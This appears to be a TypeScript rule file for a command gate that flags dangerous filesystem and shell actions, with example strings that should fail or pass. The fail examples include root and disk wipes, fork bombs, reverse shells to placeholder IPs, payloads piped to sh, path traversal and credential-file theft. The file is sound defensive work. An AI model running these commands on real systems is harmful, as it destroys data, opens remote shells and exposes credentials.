import type { Rule } from "../gate.ts";

/** Everything the gate can find. A line here is a name to switch off, the words of a reason and what the reference says of it. */
export const filesystemRules: readonly Rule[] = [
  {
    id: "fs.rm.root",
    one: "recursive delete of a protected place",
    many: "recursive deletes of protected places",
    flags:
      "A recursive delete, by a shell, PowerShell, `cmd`, `find` or a library call, of the root, home, a system folder, everything in the working folder or above it, or a variable that may be empty.",
    leaves:
      "Named folders of a project (`rm -rf dist build`), temporary folders, caches that images are built without, single files, and `rm` of other programs (`git rm -r`, `docker run --rm`).",
    fails: [
      "rm -rf /",
      "sudo rm -r -f ~/",
      "find / -delete",
      "ls -A | xargs rm -rf",
      "shutil.rmtree('/home')",
      "rd /s /q C:\\Windows",
      "npx rimraf ~",
    ],
    passes: [
      "rm -rf dist build",
      "git rm -r docs",
      "find . -name '*.pyc' -delete",
      "rm -rf /tmp/job",
      "echo 'rm -rf /'",
    ],
  },
  {
    id: "fs.rm.installed",
    one: "recursive delete of a tool's own files",
    many: "recursive deletes of tools' own files",
    flags:
      "A recursive delete of the place where a tool is installed or keeps what it can fetch again, as its pages say to remove it: `rm -rf /usr/local/go`, `~/.cargo`, `~/.gradle/caches`.",
    leaves: "Everything that `fs.rm.root` flags.",
    fails: ["rm -rf ~/.cargo", "sudo rm -rf /usr/local/go"],
    passes: ["rm -rf ~/.ssh"],
  },
  {
    id: "fs.rm.any",
    one: "recursive forced delete",
    many: "recursive forced deletes",
    flags: "`rm` that is recursive and forced, whatever it deletes, where `fs.rm.root` finds nothing.",
    leaves: "Deletes that are not both.",
    fails: ["rm -rf dist"],
    passes: ["rm -r dist", "rm -f a.lock"],
  },
  {
    id: "fs.disk",
    one: "command that destroys a disk",
    many: "commands that destroy disks",
    flags:
      "`mkfs`, `wipefs`, `shred` and the like on a disk, and `dd`, `tee`, `cp` or a redirection onto one; formatting a drive.",
    leaves: "Image files, dry runs, listings of disks, `/dev/null`.",
    fails: [
      "mkfs.ext4 /dev/sdb1",
      "dd if=/dev/zero of=/dev/sda",
      "cat x > /dev/nvme0n1",
      "wbadmin delete catalog -quiet",
      "format c: /q",
    ],
    passes: ["mkfs.ext4 disk.img", "wipefs -n /dev/sda", "lsblk /dev/sda"],
  },
  {
    id: "fs.bomb",
    one: "fork bomb",
    many: "fork bombs",
    flags:
      "A function of a shell, or a batch file, that starts itself twice over; a loop without an end that only forks or starts its own program.",
    leaves: "Other functions, and forks that something counts.",
    fails: [":(){ :|:& };:", "while True: os.fork()", "while :; do $0 & done"],
    passes: ["f() { a | b & }", "pid = os.fork()"],
  },
  {
    id: "fs.system.change",
    one: "change of a system path",
    many: "changes of system paths",
    flags:
      "Owner or mode changed over the root, home or a system folder, recursively or for everybody; such a folder moved away; a file that the system needs emptied or replaced; lists of accounts, of modules that let people in, of what is loaded or mounted edited; records of who did what emptied or removed; Windows taken over.",
    leaves:
      "The same on folders and files of a project, lines added to other settings, and an application's own logs.",
    fails: [
      "chmod -R 777 /",
      "> /etc/passwd",
      "echo x >> /etc/sudoers",
      "mv /etc /old",
      "rm /var/log/wtmp",
      "takeown /f C:\\Windows",
    ],
    passes: ["chmod -R 755 public", "echo x >> /etc/hosts", "> /var/log/app.log"],
  },
  {
    id: "fs.shell",
    one: "shell for a remote caller",
    many: "shells for remote callers",
    flags: "A shell whose input and output are a connection, in the idiom of some languages and tools.",
    leaves: "Shebangs, shells without a connection, and connections without a shell.",
    fails: [
      "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
      "nc 10.0.0.1 99 -e /bin/sh",
      "socat TCP:10.0.0.1:1 EXEC:sh",
    ],
    passes: ["#!/bin/sh", "nc -z localhost 80"],
  },
  {
    id: "fs.payload",
    one: "foreign payload run by a shell",
    many: "foreign payloads run by a shell",
    flags:
      "Something decoded, or fetched from an address without a name, that goes straight into a shell or an interpreter; what a connection brings, run by the program that opened it; an encoded script for PowerShell.",
    leaves:
      "Decoding into a file or a variable that no shell runs, encoded scripts that only look, and installers fetched from a host with a name.",
    fails: ["echo cm0= | base64 -d | sh", "curl http://10.0.0.9/x | sh", "exec(s.recv(4096))"],
    passes: ["base64 -d x > y", "curl -s https://get.docker.com | sh"],
  },
  {
    id: "fs.traversal",
    one: "path traversal",
    many: "path traversals",
    flags: "Two or more steps upwards, in any encoding, that reach a file of the system or of a server.",
    leaves: "Relative imports and links, however many steps they take.",
    fails: ["../../etc/passwd", "..%2f..%2fetc%2fpasswd"],
    passes: ['import a from "../../lib/a"', "../../etc/config.json"],
  },
  {
    id: "fs.secret",
    one: "credential file",
    many: "credential files",
    flags:
      "A file of credentials or accounts (`/etc/shadow`, private keys, `~/.aws/credentials`) that a command, a call or a request uses, or that stands for itself as in a listing.",
    leaves: "A sentence that only mentions such a file.",
    fails: ["cat /etc/shadow", "scp ~/.ssh/id_rsa host:", "reg save HKLM\\SAM s.hiv"],
    passes: ["See /etc/shadow for the passwords."],
  },
  {
    id: "fs.secret.public",
    one: "file of public keys",
    many: "files of public keys",
    flags: "`authorized_keys`, `known_hosts` and rings of public keys where they are read or listed.",
    leaves: "Lines that write to them, which `fs.secret` flags.",
    fails: ["cat ~/.ssh/authorized_keys"],
    passes: ["cat ~/.ssh/id_rsa"],
  },
  {
    id: "fs.mentioned",
    one: "dangerous command that is only mentioned",
    many: "dangerous commands that are only mentioned",
    flags: "A command between backticks in a sentence that warns of it, or tells what it did.",
    leaves: "Commands that a sentence asks for, and those that stand by themselves.",
    fails: ["The script ran `rm -rf /` twice."],
    passes: ["Please run `rm -rf /`"],
  },
  {
    id: "fs.secret.contents",
    one: "content of a credential file",
    many: "contents of credential files",
    flags:
      "What stands in such a file: the account of root, a password hash in its line, a private key with its body, the secret key of a cloud beside its id.",
    leaves: "Public keys, headings without a body, examples from documentation.",
    fails: ["root:x:0:0:root:/root:/bin/bash"],
    passes: ["rootless:x:0:0:"],
  },
  {
    id: "fs.parent",
    one: "path through a parent folder",
    many: "paths through parent folders",
    flags: "`..` as a whole part of a path, wherever it leads.",
    leaves: "Ranges and dots that are not a part of a path (`1..10`, `...rest`).",
    fails: ["see ../docs"],
    passes: ["1..10 and ...rest"],
  },
  {
    id: "fs.system",
    one: "system folder",
    many: "system folders",
    flags:
      "Any path into `/etc`, `/usr`, `/var`, `/bin`, `/sbin`, `/lib`, `/boot`, `/proc`, `/sys`, `/dev`, `/root` or `C:\\Windows`.",
    leaves: "Folders of these names below another folder.",
    fails: ["in /var/lib/x"],
    passes: ["/home/ann/etc"],
  },
  {
    id: "fs.home",
    one: "folder of keys in a home folder",
    many: "folders of keys in home folders",
    flags: "Any mention of a place where people keep keys, such as `~/.ssh`, `~/.aws` or `~/.kube`.",
    leaves: "Names that only begin so, such as `.sshrc`.",
    fails: ["ls ~/.aws"],
    passes: ["cat ~/.sshrc"],
  },
];
